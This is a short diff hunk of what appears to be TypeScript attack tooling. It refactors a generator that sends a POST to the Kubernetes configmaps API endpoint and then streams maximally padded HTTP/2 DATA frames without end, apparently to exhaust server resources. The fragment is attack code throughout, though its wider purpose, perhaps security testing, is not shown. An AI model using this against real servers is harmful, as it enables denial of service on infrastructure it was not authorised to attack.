@@ -27,13 +27,7 @@ export const attack: Attack = {
       const post = request(head(target, 'POST', '/api/v1/namespaces/default/configmaps'), 0)
       const padded = h2.frame(h2.DATA, h2.PADDED, stream, Buffer.concat([Buffer.from([255]), Buffer.alloc(255)]))
       const piece = Buffer.concat(new Array<Buffer>(64).fill(padded))
-      let begun = false
-      return {
-        next() {
-          if (begun) return piece
-          begun = true
-          return post(stream)
-        },
-      }
+      const pieces = [post(stream)]
+      return { next: () => pieces.shift() ?? piece }
     }),
 }
